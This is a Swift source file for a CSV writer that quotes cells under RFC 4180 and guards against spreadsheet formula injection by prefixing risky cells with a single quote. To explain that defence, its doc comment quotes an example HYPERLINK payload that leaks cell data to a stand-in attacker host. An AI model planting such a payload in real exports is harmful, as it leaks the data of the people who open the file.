import Foundation

/// Writes RFC 4180 CSV, safe to open in a spreadsheet.
///
/// Records end in CRLF; a cell holding a comma, a double quote or a line break is put in double
/// quotes, inner quotes doubled.
///
/// Formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some
/// also one that starts with a tab or a carriage return) as a formula, so a record such as
/// `=HYPERLINK("http://evil.example/?"&A1)` could leak data when someone opens the export.
/// ``protect(_:)`` puts a single quote `'` before such a cell, which spreadsheets show as text.
/// A cell that already starts with `'` gets one more, so ``unprotect(_:)`` — which the importer
/// applies — gives every original value back. Plain numbers such as `-12.5` are left alone.
public enum CSVWriter {
    private static let formulaStarts: Set<Character> = ["=", "+", "-", "@", "\t", "\r", "'"]

    /// One record as CSV text, cells protected and quoted as needed, ending in CRLF.
    public static func record(_ cells: [String]) -> String {
        cells.map { quoted(protect($0)) }.joined(separator: ",") + "\r\n"
    }

    /// `cell` with a `'` put before it when a spreadsheet could read it as a formula.
    public static func protect(_ cell: String) -> String {
        guard let first = cell.first, formulaStarts.contains(first), !isPlainNumber(cell) else { return cell }
        return "'" + cell
    }

    /// Undoes ``protect(_:)``: drops a leading `'` that stands before a formula start or another `'`.
    public static func unprotect(_ cell: String) -> String {
        guard cell.first == "'", let second = cell.dropFirst().first, formulaStarts.contains(second) else { return cell }
        return String(cell.dropFirst())
    }

    /// `cell` in double quotes when it holds a comma, a quote or a line break.
    public static func quoted(_ cell: String) -> String {
        guard cell.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" || $0 == "\r\n" }) else { return cell }
        return "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    /// Whether `cell` is a plain decimal number such as `-12.5`: no spreadsheet reads it as a formula.
    private static func isPlainNumber(_ cell: String) -> Bool {
        var scalars = Substring(cell).unicodeScalars[...]
        if scalars.first == "-" { scalars = scalars.dropFirst() }
        guard let first = scalars.first, ("0"..."9").contains(first) else { return false }
        var sawPoint = false
        for scalar in scalars {
            if scalar == ".", !sawPoint {
                sawPoint = true
            } else if !("0"..."9").contains(scalar) {
                return false
            }
        }
        return scalars.last != "."
    }
}
